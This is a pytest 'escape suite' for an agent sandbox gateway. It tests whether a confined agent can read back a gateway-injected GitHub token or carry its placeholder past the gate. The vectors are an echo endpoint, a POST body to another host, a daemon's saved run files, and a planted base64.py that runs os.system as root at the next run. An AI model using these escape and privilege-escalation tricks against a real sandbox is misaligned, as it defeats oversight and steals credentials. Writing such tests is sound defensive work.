"""Escape suite, secrets the gate injects (issue 20): the agent holds a placeholder, never the
value, and the placeholder goes nowhere but where a rule injects it. Each case is an agent
trying to read the value back or to carry the placeholder past the gate's screen, on plain
http (the gate sees the whole exchange) against the fake internet; both modes."""

from __future__ import annotations

import base64
import glob
import json
import os
import shutil
import subprocess
import tempfile
import time
from pathlib import Path

import pytest

from conftest import AGENT_UID, ROOT, gatewrap_cmd
from gatewrap.sandbox.registry import RUNS_DIR

pytestmark = pytest.mark.kernel

VALUE = "ghp_ESCAPEVALUE0123456789abcdefXYZ"

POLICY = """
[[secret]]
name = "github"
from_env = "GW_TEST_SECRET"
placeholder_env = "GITHUB_TOKEN"

[[rule]]
host = "allowed.test"
schemes = ["http"]
action = "allow"
inject = { secret = "github", as = "bearer" }

[[rule]]
host = "other.allowed.test"
schemes = ["http"]
action = "allow"
"""

# The agent: each request (url, method, headers, body; "PH" replaced by the placeholder), its
# status and response body printed as one JSON line.
AGENT = """
import json, os, sys, urllib.request, urllib.error
ph = os.environ["GITHUB_TOKEN"]
for url, method, headers, body in json.loads(sys.argv[1]):
    data = None if body is None else body.replace("PH", ph).encode()
    req = urllib.request.Request(url.replace("PH", ph), data=data, method=method,
                                 headers={k: v.replace("PH", ph) for k, v in headers.items()})
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            print(json.dumps({"status": r.status, "body": r.read().decode(errors="replace")}))
    except urllib.error.HTTPError as e:
        print(json.dumps({"status": e.code, "body": e.read().decode(errors="replace")}))
"""


def run_agent(gatewrap, tmp_path, requests):
    policy = tmp_path / "policy.toml"
    policy.write_text(POLICY)
    r = gatewrap(["/usr/bin/python3", "-c", AGENT, json.dumps(requests)], extra=["--policy", str(policy)],
                 unnamed={"GW_TEST_SECRET": VALUE})
    return r, [json.loads(x) for x in r.stdout.splitlines() if x.startswith("{")]


@pytest.mark.xfail(strict=True, reason="the gate does not look at responses: a host the rule injects for that "
                   "reflects the request (an echo endpoint, an error page quoting the header, a debug route) hands "
                   "the value to the agent. Needs a response screen in the gate (the value and its Basic/base64 "
                   "forms searched across body chunks, redacted or the connection cut) or rules scoped by path to "
                   "routes that do not reflect; not small")
def test_an_injected_host_that_echoes_the_request_hands_the_agent_the_value(gatewrap, tmp_path, outcome):
    """The rule injects into every request to its host; the host's /echo sends the request's
    headers back: the agent reads the real token in the response."""
    r, lines = run_agent(gatewrap, tmp_path, [["http://allowed.test/echo", "GET", {"Authorization": "Bearer PH"}, None]])
    assert r.returncode == 0, r.stderr
    (got,) = lines
    assert got["status"] == 200, got
    leaked = VALUE in got["body"]
    outcome("gate (responses are not screened)", "the value came back in the response body" if leaked
            else "the value did not reach the agent", "OPEN" if leaked else "held")
    assert not leaked, "the agent read the secret's value in the echoed response"


def test_the_placeholder_in_a_request_body_to_another_allowed_host_is_refused(gatewrap, tmp_path, outcome):
    """The placeholder in a POST body to an allowed host that no rule injects for."""
    r, lines = run_agent(gatewrap, tmp_path, [["http://other.allowed.test/echo", "POST",
                                               {"Content-Type": "text/plain"}, "token=PH"]])
    assert r.returncode == 0, r.stderr
    (got,) = lines
    recs = [x for x in r.records(event="request") if x.get("secret")]
    outcome("gate (request bodies are screened)", f"status {got['status']}, a secret_misuse record: {bool(recs)}",
            "held" if got["status"] == 403 else "OPEN")
    assert got["status"] == 403 and recs and recs[0]["reason"].startswith("secret_misuse"), (got, recs)



def test_the_value_from_gatewraps_environment_is_not_written_to_what_a_daemon_keeps_of_the_run(tmp_path, outcome):
    """``from_env``: the value is in gatewrap's environment; a shared run's client sends that
    environment to the daemon, which keeps the run's options on disk (/run/gatewrap/runs) to
    take the run back after a restart. The value must not be written there (issue 20: the
    value is never written anywhere). A run of its own keeps nothing there: it holds."""
    policy = tmp_path / "policy.toml"
    policy.write_text(POLICY)
    shown = Path(tempfile.mkdtemp(prefix="gwt-secret-keep-"))
    shown.chmod(0o755)
    audit, go = tmp_path / "audit.jsonl", shown / "go"
    cmd = gatewrap_cmd("run", "--audit-log", str(audit), "--policy", str(policy), "--workdir", "/tmp",
                       "--ro-bind", str(shown), "--", "/bin/sh", "-c", f"while [ ! -e {go} ]; do sleep 0.05; done")
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=ROOT,
                            env={**os.environ, "GW_TEST_SECRET": VALUE, "SUDO_UID": str(AGENT_UID),
                                 "SUDO_GID": str(AGENT_UID)})
    try:
        end = time.monotonic() + 60
        while not (audit.exists() and "run_start" in audit.read_text()):
            assert time.monotonic() < end and proc.poll() is None, proc.communicate()
            time.sleep(0.05)
        found = [p for p in glob.glob(f"{RUNS_DIR}/*.json") if VALUE in Path(p).read_text(errors="replace")]
    finally:
        go.touch()
        out, err = proc.communicate(timeout=60)
        shutil.rmtree(shown, ignore_errors=True)
    assert proc.returncode == 0, err
    outcome("daemon's saved run", "the value was in the run's saved options" if found else "the saved options hold no value",
            "OPEN" if found else "held")
    assert not found, f"{found} hold the secret's value (the client's environment)"


def test_a_from_command_secret_runs_nothing_the_agent_left_in_its_working_directory(tmp_path, outcome):
    """``from_command`` runs as root on the host at every run's start (and at a reload). Run
    in the run's working directory, the agent's, ``python3 -m MODULE`` (a keyring, a token
    helper) imports MODULE from that directory first (sys.path[0], python(1) ``-m``): a
    ``base64.py`` the agent left there runs as root at the user's next run."""
    top = Path(tempfile.mkdtemp(prefix="gwt-secret-cmd-"))
    top.chmod(0o755)
    try:
        work, marker, token = top / "w", top / "ran-as-root", top / "token.b64"
        work.mkdir()
        subprocess.run(["chown", f"{AGENT_UID}:{AGENT_UID}", str(work)], check=True)
        token.write_text(base64.b64encode(VALUE.encode()).decode() + "\n")
        token.chmod(0o600)
        policy = tmp_path / "policy.toml"
        policy.write_text(POLICY.replace('from_env = "GW_TEST_SECRET"',
                                         f'from_command = ["/usr/bin/python3", "-m", "base64", "-d", "{token}"]'))
        plant = f"import os\nos.system('touch {marker}')\n"
        runs = []
        for script in (f"printf '%s' \"{plant}\" > base64.py", "true"):  # the run that plants, the user's next
            cmd = gatewrap_cmd("run", "--audit-log", str(tmp_path / "audit.jsonl"), "--policy", str(policy),
                               "--workdir", str(work), "--", "/bin/sh", "-c", script)
            runs.append(subprocess.run(cmd, capture_output=True, text=True, timeout=60, cwd=ROOT,
                                       env={**os.environ, "SUDO_UID": str(AGENT_UID), "SUDO_GID": str(AGENT_UID)}))
        assert runs[0].returncode == 0, runs[0].stderr
        assert (work / "base64.py").exists(), "the agent could not plant its module: the vector is not tried"
        ran = marker.exists()
        outcome("secrets (from_command)", "the planted module ran as root at the next run's start" if ran
                else "the next run's from_command ran nothing of the working directory", "OPEN" if ran else "held")
        assert not ran, "a module the agent planted ran as root when the next run resolved its secret"
        assert runs[1].returncode == 0, runs[1].stderr
    finally:
        shutil.rmtree(top, ignore_errors=True)
